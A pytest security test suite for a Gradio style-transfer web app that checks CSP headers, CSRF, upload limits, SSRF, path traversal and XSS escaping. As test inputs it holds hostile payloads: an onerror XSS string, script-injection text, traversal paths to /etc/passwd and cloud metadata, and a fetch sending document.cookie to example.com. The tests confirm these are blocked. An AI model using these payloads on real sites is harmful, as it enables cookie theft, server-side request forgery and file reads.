"""SECURITY.md, attacked: every test does what somebody hostile would do, to a running page."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import http.client
import json
import os
import re
import socket
import subprocess
import sys
import threading
import tracemalloc
from collections.abc import Iterator
from dataclasses import replace
from datetime import datetime, timezone
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from gradio.route_utils import upload_fn
from gradio.state_holder import SessionState
from gradio_client import Client, handle_file
from gradio_client.exceptions import AppError
from mcp import ClientSession
from mcp.client.streamable_http import streamable_http_client
from playwright.sync_api import Browser, expect
from starlette.applications import Starlette
from starlette.formparsers import MultiPartException
from starlette.middleware import Middleware
from starlette.middleware.sessions import SessionMiddleware
from starlette.requests import Request
from starlette.responses import PlainTextResponse
from starlette.routing import Route
from starlette.types import Message, Receive, Scope, Send

from helpers.browsing import LONG, PAINTING, PHOTO, Visit, start, status, upload
from helpers.places import ROOT
from helpers.requesting import (
    META,
    SECRETS,
    arguments,
    call,
    connected,
    head_of,
    jobs,
    sent,
    server,
    web,
)
from helpers.server import Server
from nst import TransferSettings, load_image
from nst.hub.gallery_layout import Publication
from nst.images.recipe import new_recipe, signed_png
from nst.provenance import Provenance
from nst.studio.workshop import Workshop
from page.examples import ExampleSet
from page.http.body_limits import MAX_CALL, MAX_TOOL_CALL, MAX_UPLOAD, MULTIPART, TOO_LARGE
from page.http.bounded_blocks import NOT_UPLOADED
from page.http.middleware import SecurityMiddleware
from page.layout import build_demo
from page.panels import charts
from page.panels.example_rows import row_markup
from page.panels.public_gallery import publications_markup

__all__ = ["jobs", "server", "web"]  # fixtures

pytestmark = pytest.mark.real

HOSTILE = "<img src=x onerror=window.pwned=1>"


# --- The page, with something to steal ----------------------------------------------------------


@pytest.fixture(scope="module")
def neighbour() -> Iterator[ThreadingHTTPServer]:
    """A service that only this machine can reach; `asked` is what it was asked for."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.server.asked.append(self.path)  # type: ignore[attr-defined]
            self.send_response(200)
            self.end_headers()
            self.wfile.write(PHOTO.read_bytes())

        do_HEAD = do_GET

        def log_message(self, *_: Any) -> None:
            pass

    service = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    service.asked = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=service.serve_forever)
    thread.start()
    yield service
    service.shutdown()
    thread.join()
    service.server_close()


# --- Headers ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/config",
        "/gradio_api/info",
        "/gradio_api/mcp/",
        "/gradio_api/mcp/schema",
        "/static/js/iframeResizer.contentWindow.min.js",
        "/studio/none/picture.png",
        "/gradio_api/file=/etc/passwd",
        "/gradio_api/proxy=http://127.0.0.1/",
        "/nowhere",
    ],
)
def test_every_answer_says_what_a_browser_may_do_with_it(web: httpx.Client, path: str) -> None:
    headers = web.get(path).headers
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "same-origin"
    assert "camera=(self)" in headers["Permissions-Policy"]
    assert "X-Frame-Options" not in headers  # it would keep Spaces from embedding the page
    parts = headers["Content-Security-Policy"].split("; ")
    policy = {name: sources for name, _, sources in (part.partition(" ") for part in parts)}
    assert policy["frame-ancestors"] == "'self' https://huggingface.co https://*.hf.space"
    assert policy["default-src"] == "'none'"
    scripts = policy.get("script-src", "'none'")
    assert "unsafe-inline" not in scripts
    assert not re.search(r"https?:|\*", scripts)
    assert ("'sha256-" in scripts) == headers["Content-Type"].startswith("text/html")


def test_an_uploaded_page_is_no_page(web: httpx.Client) -> None:
    path = sent(web, "evil.html", b"<script>window.pwned = 1</script>")
    answer = web.get(f"/gradio_api/file={path}")
    assert answer.headers["Content-Disposition"].startswith("attachment")
    assert answer.headers["Content-Type"] == "application/octet-stream"
    assert "sandbox" in answer.headers["Content-Security-Policy"]


# --- In a visitor's name ------------------------------------------------------------------------

ELSEWHERE = {"Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site"}


@pytest.mark.parametrize(
    ("method", "headers", "who"),
    [
        ("POST", {"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors"}, "ada"),
        ("POST", {**ELSEWHERE, "Sec-Fetch-Mode": "cors"}, ""),
        ("POST", {**ELSEWHERE, "Sec-Fetch-Mode": "navigate"}, ""),  # a form that sends itself
        ("GET", {**ELSEWHERE, "Sec-Fetch-Mode": "cors"}, ""),
        ("GET", {**ELSEWHERE, "Sec-Fetch-Mode": "navigate"}, "ada"),  # back from signing in
        ("POST", {}, "ada"),  # no browser
    ],
)
def test_another_site_does_not_act_for_who_is_signed_in(
    method: str, headers: dict[str, str], who: str
) -> None:
    """As Gradio has it: its sessions are outside of what `launch_options` adds."""

    async def sign_in(request: Request) -> PlainTextResponse:
        request.session["user"] = "ada"
        return PlainTextResponse("")

    async def act(request: Request) -> PlainTextResponse:
        return PlainTextResponse(request.session.get("user", ""))

    routes = [Route("/sign-in", sign_in), Route("/act", act, methods=["GET", "POST"])]
    sessions = Middleware(SessionMiddleware, secret_key="of the test")
    app = Starlette(routes=routes, middleware=[sessions, Middleware(SecurityMiddleware)])

    async def attack() -> tuple[str, str]:
        transport = httpx.ASGITransport(app)
        async with httpx.AsyncClient(transport=transport, base_url="http://here") as web:
            await web.get("/sign-in")
            acted = await web.request(method, "/act", headers=headers)
            return acted.text, (await web.get("/act")).text

    assert asyncio.run(attack()) == (who, "ada")  # who stays signed in


# --- Too much -----------------------------------------------------------------------------------

LIMITS = {
    "/gradio_api/upload": MAX_UPLOAD + MULTIPART,
    "/gradio_api/mcp/": MAX_TOOL_CALL,
    "/gradio_api/call/stylize": MAX_CALL,
    "/gradio_api/run/stylize": MAX_CALL,
    "/gradio_api/queue/join": MAX_CALL,
    "/gradio_api/cancel": MAX_CALL,
    "/gradio_api/reset": MAX_CALL,
}


def answer_on(connection: socket.socket) -> tuple[int, str]:
    answer = http.client.HTTPResponse(connection)
    answer.begin()
    return answer.status, answer.read().decode()


@pytest.mark.parametrize(("path", "limit"), LIMITS.items())
def test_a_body_that_is_announced_too_large_is_not_read(
    server: Server, path: str, limit: int
) -> None:
    with connected(server) as connection:
        connection.sendall(head_of(path, f"Content-Length: {limit + 1}"))
        assert answer_on(connection) == (413, TOO_LARGE)


@pytest.mark.parametrize(("path", "limit"), LIMITS.items())
def test_a_body_of_unknown_length_is_read_up_to_the_limit(
    server: Server, path: str, limit: int
) -> None:
    start = b'--b\r\nContent-Disposition: form-data; name="files"; filename="x"\r\n\r\n'
    half = start + b" " * (limit // 2) + b"\r\n"  # of an upload each is a file that may be
    body = half + half + b" " * (limit + 1 - 2 * len(half))
    with connected(server) as connection:
        connection.sendall(head_of(path, "Transfer-Encoding: chunked"))
        connection.sendall(b"%x\r\n" % len(body) + body + b"\r\n")  # and more would follow
        assert answer_on(connection) == (413, TOO_LARGE)


def test_what_is_allowed_passes(web: httpx.Client) -> None:
    assert sent(web, "large.bin", bytes(MAX_UPLOAD))
    files = {"files": ("large.bin", bytes(MAX_UPLOAD + 1))}
    assert web.post("/gradio_api/upload", files=files).status_code == 413
    wordy = {"session_hash": "x", "fn_index": 0, "event_id": "", "more": "x" * (MAX_CALL - 100)}
    assert web.post("/gradio_api/cancel", json=wordy).status_code == 200


@pytest.mark.parametrize("is_too_large", [False, True])
def test_an_upload_that_breaks_off_leaves_no_file(tmp_path: Path, is_too_large: bool) -> None:
    start = b'--b\r\nContent-Disposition: form-data; name="files"; filename="a"\r\n\r\n'
    size = MAX_UPLOAD + MULTIPART if is_too_large else 9
    chunks: Iterator[Message] = iter(
        [
            {"type": "http.request", "body": start + b"some", "more_body": True},
            {"type": "http.request", "body": bytes(size), "more_body": True},
            {"type": "http.disconnect"},
        ]
    )
    answers: list[Message] = []

    async def receive() -> Message:
        return next(chunks)

    async def send(message: Message) -> None:
        answers.append(message)

    async def gradio(scope: Scope, receive: Receive, send: Send) -> None:
        with pytest.raises(MultiPartException):
            await upload_fn(Request(scope, receive), tmp_path, float("inf"), None)

    scope = {
        "type": "http",
        "method": "POST",
        "path": "/gradio_api/upload",
        "headers": [(b"content-type", b"multipart/form-data; boundary=b")],
    }
    asyncio.run(SecurityMiddleware(gradio)(scope, receive, send))
    assert list(tmp_path.iterdir()) == []
    assert [answer.get("status") for answer in answers] == (
        [413, None, None] if is_too_large else []
    )


# --- Files and addresses that are nobody's business -----------------------------------------------


def targets(jobs: Path, upload: str, neighbour: ThreadingHTTPServer) -> dict[str, str]:
    """What somebody would like to have painted."""
    port = neighbour.server_port
    return {
        "a service of the cloud": "http://169.254.169.254/latest/meta-data",
        "this machine": f"http://127.0.0.1:{port}/photo.jpg",
        "this machine in disguise": f"http://[::ffff:127.0.0.1]:{port}/photo.jpg",
        "a host that Gradio trusts": f"https://localhost.hf.co:{port}/photo.jpg",
        "a file by address": "file:///etc/passwd",
        "the passwords": "/etc/passwd",
        "a device": "/dev/zero",
        "up and away": f"{Path(upload).parent}/../../../../../../etc/passwd",
        "relative": "examples/content/castle.jpg",
        "the code's folder": str(ROOT / "examples" / "content" / "castle.jpg"),
        "another visitor's photo": str(jobs / "private.jpg"),
        "through our own address": f"http://localhost/gradio_api/file={jobs}/private.jpg",
        "all uploads": str(Path(upload).parent),
        "no path at all": "/tmp/\0",
        "data that is none": "data:image/png",
    }


def shapes(target: str) -> list[Any]:
    """The ways in which Gradio, or a component of its, would take it for a file."""
    return [
        {"path": target, "meta": META},
        {"path": target},
        {"path": target, "meta": META, "is_stream": True},
        {"path": None, "url": target, "meta": META},
        {"url": target},
        target,
    ]


def test_only_uploads_are_painted(
    web: httpx.Client, jobs: Path, neighbour: ThreadingHTTPServer
) -> None:
    data = arguments(web)
    for name, target in targets(jobs, data[0]["path"], neighbour).items():
        for shape in shapes(target):
            data[0] = shape
            answer = web.post("/gradio_api/run/stylize", json={"data": data}).json()
            assert answer.get("error") == NOT_UPLOADED, (name, shape)
    assert neighbour.asked == []  # type: ignore[attr-defined]


def test_a_file_among_the_numbers_is_not_opened_either(
    web: httpx.Client, neighbour: ThreadingHTTPServer
) -> None:
    address = f"http://127.0.0.1:{neighbour.server_port}/"
    for name in ("alpha", "layer_weights", "optimizer"):
        for file in ({"path": address, "meta": META}, [{"deep": {"path": address, "meta": META}}]):
            data = arguments(web, **{name: file})
            assert NOT_UPLOADED in call(web, data)
    assert neighbour.asked == []  # type: ignore[attr-defined]


def test_the_pages_own_events_open_only_uploads(web: httpx.Client, jobs: Path) -> None:
    config = web.get("/config").json()
    (button,) = [c["id"] for c in config["components"] if c["type"] == "uploadbutton"]
    (event,) = [e for e in config["dependencies"] if button in e["inputs"]]
    file = {"path": str(jobs / "private.jpg")}
    body = {
        "data": [file if part == button else None for part in event["inputs"]],
        "fn_index": event["id"],
        "session_hash": "somebody",
    }
    web.post("/gradio_api/queue/join", json=body).raise_for_status()
    assert NOT_UPLOADED in said_in_queue(web, "somebody")


def said_in_queue(web: httpx.Client, session: str) -> str:
    """The last message to a session."""
    with web.stream("GET", "/gradio_api/queue/data", params={"session_hash": session}) as lines:
        for line in lines.iter_lines():
            if '"process_completed"' in line:
                return line
    raise AssertionError("the queue fell silent")


def test_clients_get_the_sentence(server: Server, tmp_path: Path) -> None:
    with contextlib.closing(
        Client(server.url, verbose=False, analytics_enabled=False, download_files=tmp_path)
    ) as client:
        for target in (f"{server.url}/studio/none/picture.png", "https://example.com/photo.jpg"):
            with pytest.raises(AppError, match=re.escape(NOT_UPLOADED)):
                client.predict(handle_file(target), handle_file(PAINTING), api_name="/stylize")


def test_mcp_clients_get_the_sentence(server: Server) -> None:
    async def call_tool() -> Any:
        async with (
            streamable_http_client(f"{server.url}/gradio_api/mcp/") as (read, write, _),
            ClientSession(read, write) as session,
        ):
            await session.initialize()
            address = "http://169.254.169.254/latest/meta-data"
            return await session.call_tool("stylize", {"content": address, "style": address})

    result = asyncio.run(call_tool())
    assert result.isError
    assert NOT_UPLOADED in result.content[0].text


def test_uploads_are_painted_however_they_are_named(server: Server, web: httpx.Client) -> None:
    path = sent(web)
    inline = "data:image/jpeg;base64," + base64.b64encode(PHOTO.read_bytes()).decode()
    for shape in (path, {"path": path}, f"{server.url}/gradio_api/file={quote(path)}", inline):
        answer = call(web, arguments(web, content=shape))
        assert "event: complete" in answer, answer[-300:]


def test_an_upload_stays_where_uploads_are(web: httpx.Client) -> None:
    folder = Path(sent(web)).parent.parent
    for name in ("../../../evil.jpg", "..", "/etc/evil.jpg", "a\0b.jpg", "..\\evil.jpg"):
        answer = web.post("/gradio_api/upload", files={"files": (name, name.encode())})
        for path in answer.json() if answer.status_code == 200 else ():
            assert Path(path).resolve().is_relative_to(folder.resolve())


@pytest.mark.parametrize(
    "path",
    [
        "/gradio_api/file=/etc/passwd",
        f"/gradio_api/file={ROOT}/app.py",
        f"/gradio_api/file={ROOT}/examples/CREDITS.md",
        f"/gradio_api/file={ROOT}/examples/content/../CREDITS.md",
        "/gradio_api/file=JOBS/private.jpg",
        "/gradio_api/file=http://127.0.0.1:PORT/",
        "/gradio_api/file=HTTP://127.0.0.1:PORT/",
        "/gradio_api/file=file:///etc/passwd",
        "/gradio_api/proxy=http://127.0.0.1:PORT/",
        "/gradio_api/stream/a/b/c/playlist.m3u8",
        "/gradio_api/deep_link?session_hash=somebody",
        "/gradio_api/dev/reload",
        "/gradio_api/vibe-code/",
        "/gradio_api/openapi.json/..%2f..%2f..%2fetc/passwd",
        "/monitoring",
        "/openapi.json",
        "/static/..%2f..%2f..%2froutes.py",
        "/studio/..%2f..%2f..%2fetc/thumbnail.jpg",
        "/studio/%2e%2e/private.jpg/thumbnail.jpg",
        "/studio/none/frames/..%2f..%2fprivate.jpg",
        "/studio/none/timelapse...%2fprivate.jpg",
        "/studio/shared/..%2fprivate.jpg/picture.png",
        "/studio/examples/..%2f..%2fCREDITS.jpg",
        "/studio/community/..%2f..%2fprivate.jpg",
    ],
)
def test_no_address_opens_a_file_or_another_machine(
    web: httpx.Client, jobs: Path, neighbour: ThreadingHTTPServer, path: str
) -> None:
    asked = path.replace("JOBS", str(jobs)).replace("PORT", str(neighbour.server_port))
    assert web.get(asked).status_code in (403, 404)
    assert neighbour.asked == []  # type: ignore[attr-defined]


# --- Markup -------------------------------------------------------------------------------------


def test_what_others_wrote_is_text() -> None:
    recipe = new_recipe(load_image(PHOTO), [load_image(PAINTING)], TransferSettings(), "cpu")
    now = datetime(2026, 11, 22, tzinfo=timezone.utc)
    quoted = f'"{HOSTILE}'
    published = Publication(quoted, quoted, quoted, now, recipe, False, "")
    example = ExampleSet().all[0]
    picture = replace(example.picture, title=quoted, artist=quoted, licence=quoted)
    hostile = replace(example, picture=picture, name=quoted)
    for markup in (
        publications_markup([published]),
        row_markup([hostile], quoted),
        charts.message(quoted),
    ):
        assert "&lt;img" in markup
        assert "<img src=x" not in markup
        assert '""' not in markup.replace('alt=""', "")


def test_nothing_of_a_request_becomes_a_script(web: httpx.Client) -> None:
    evil = "</script><script>evil()</script>"
    names = ("X-Forwarded-Host", "X-Forwarded-Proto", "X-Forwarded-Prefix", "Referer", "Host")
    query = dict.fromkeys(("deep_link", "content", "beta", "result", "__theme"), evil)
    asked = [("/", {}), *(("/", {name: evil}) for name in names), (f"/{evil}", {})]
    for path, headers in asked:
        answer = web.get(path, headers=headers, params=query)
        is_page = answer.headers["Content-Type"].startswith("text/html")
        assert not is_page or "<script>evil" not in answer.text, headers


@pytest.mark.browser
def test_hostile_names_links_and_recipes_are_shown_as_text(
    visit: Visit, browser: Browser, server: Server, tmp_path: Path
) -> None:
    """`visit` also finds that nothing was tried: the policy would have stopped it, and said so."""
    recipe = new_recipe(load_image(PHOTO), [load_image(PAINTING)], TransferSettings(), "cpu")
    hostile = Provenance(HOSTILE, software={HOSTILE: HOSTILE})
    recipe = replace(recipe, provenance=(hostile,))
    picture = tmp_path / f"{HOSTILE}.png"
    picture.write_bytes(signed_png(load_image(PHOTO), recipe))
    quoted = quote(HOSTILE)
    page = visit(path=f"/?content={quoted}&beta={quoted}&result={quoted}&deep_link=../{quoted}")
    expect(page.locator("#status")).to_contain_text(HOSTILE)
    upload(page, "content", picture)
    page.locator("#bring-back").locator("xpath=..").locator("input[type=file]").set_input_files(
        picture
    )
    expect(page.locator("#status")).to_contain_text(re.compile("settings|recipe"), timeout=LONG)
    assert page.locator("img[src=x]").count() == 0
    assert page.evaluate("window.pwned") is None


@pytest.mark.browser
def test_markup_that_got_in_would_run_nothing_and_reach_nobody(
    browser: Browser, server: Server
) -> None:
    page = browser.new_page()
    page.goto(server.url)
    expect(page.get_by_role("button", name="Stylize", exact=True)).to_be_visible(timeout=LONG)
    blocked = """([markup, count]) => new Promise((resolve) => {
        const found = new Set();
        addEventListener("securitypolicyviolation", (event) => {
            found.add(event.effectiveDirective);
            if (found.size == count) resolve([...found].sort());
        });
        const place = document.createElement("div");
        document.body.append(place);
        place.innerHTML = markup;
        const script = document.createElement("script");
        script.src = "https://example.com/evil.js";
        place.append(script);
        fetch("https://example.com/?" + document.cookie).catch(() => {});
    })"""
    markup = (
        '<img src="data:," onerror="window.pwned=1"><img src="https://example.com/leak.png">'
        '<iframe src="https://example.com/"></iframe>'
    )
    assert page.evaluate(blocked, [markup, 5]) == [
        "connect-src",
        "frame-src",
        "img-src",
        "script-src-attr",
        "script-src-elem",
    ]
    assert page.evaluate("window.pwned") is None
    page.close()


@pytest.mark.browser
def test_no_other_site_frames_the_page(browser: Browser, server: Server) -> None:
    page = browser.new_page()
    with page.expect_console_message(lambda message: "frame-ancestors" in message.text):
        page.set_content(f'<iframe src="{server.url}"></iframe>')
    page.close()


# --- Secrets ------------------------------------------------------------------------------------


@pytest.mark.browser
def test_secrets_stay_inside(web: httpx.Client, server: Server, jobs: Path, visit: Visit) -> None:
    assert "event: complete" in call(web, arguments(web))
    page = visit()
    start(page, size=64, iterations=3)
    status(page, "3 of 3 iterations")  # what a visitor paints is kept
    told = [server.log().encode(), *(f.read_bytes() for f in jobs.rglob("*") if f.is_file())]
    for path in ("/", "/config", "/gradio_api/info", "/gradio_api/mcp/schema", "/nowhere"):
        told.append(web.get(path).content)
    told.append(web.post("/gradio_api/run/stylize", json={"data": ["hf_"]}).content)
    assert len(list(jobs.iterdir())) > 1
    assert not [name for name, secret in SECRETS.items() for t in told if secret.encode() in t]


# --- Dependencies -------------------------------------------------------------------------------


def audit(tools: Path, **environment: str) -> subprocess.CompletedProcess[str]:
    """`make audit` with the tools of a folder, as if they had been installed there."""
    return subprocess.run(
        ["make", "--no-print-directory", "-o", ".venv/dev", "audit", f"BIN={tools}"],
        cwd=ROOT,
        env={**os.environ, **environment},
        capture_output=True,
        text=True,
    )


def test_the_audit_says_so_when_it_cannot_ask(tmp_path: Path) -> None:
    nowhere = "http://127.0.0.1:9"
    said = audit(
        Path(sys.executable).parent,
        HTTPS_PROXY=nowhere,
        https_proxy=nowhere,
        NO_PROXY="",
        no_proxy="",
        PIP_CACHE_DIR=str(tmp_path),
    )
    assert (said.returncode, said.stdout.count("\n")) == (0, 1)
    assert "PyPI could not be asked" in said.stdout


@pytest.mark.parametrize(
    ("report", "status", "sentence"),
    [
        ({"name": "torch", "skip_reason": "not found on PyPI"}, 0, "PyPI could not be asked"),
        ({"name": "torch", "version": "1", "vulns": []}, 0, "torch"),
        ({"name": "torch", "version": "1", "vulns": [{"id": "PYSEC-1"}]}, 2, "PYSEC-1"),
    ],
)
def test_the_audit_fails_for_what_is_known(
    tmp_path: Path, report: dict[str, Any], status: int, sentence: str
) -> None:
    tool = tmp_path / "pip-audit"
    found = json.dumps({"dependencies": [report]})
    tool.write_text(f"#!/bin/sh\necho '{found}'\nexit {1 if status else 0}\n")
    tool.chmod(0o755)
    said = audit(tmp_path)
    assert said.returncode == status
    assert sentence in said.stdout


def test_a_session_holds_little() -> None:
    """Anybody may begin any number of them."""
    demo = build_demo(Workshop(), ExampleSet())
    tracemalloc.start()
    sessions = [SessionState(demo) for _ in range(10)]
    held, _ = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert held / len(sessions) < 30_000
    assert sessions[0].blocks_config.fns.keys() == demo.fns.keys()
